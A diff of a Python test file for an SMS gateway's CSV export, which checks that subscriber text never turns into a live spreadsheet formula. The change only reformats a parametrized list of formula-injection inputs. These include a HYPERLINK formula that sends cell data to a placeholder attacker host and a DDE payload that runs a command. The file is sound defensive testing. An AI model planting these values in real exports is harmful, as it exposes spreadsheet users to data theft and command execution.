@@ -1,4 +1,5 @@
 """CSV export cells: a subscriber's text never reaches a spreadsheet as a live formula."""
+
 from __future__ import annotations
 
 import csv
@@ -8,8 +9,15 @@ import pytest
 
 from sms_gateway.export import csv_cell
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
-           "\t=1+1", "\r=1+1", "=1+1\n=2"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1\n=2",
+]
 
 
 @pytest.mark.parametrize("value", HOSTILE)
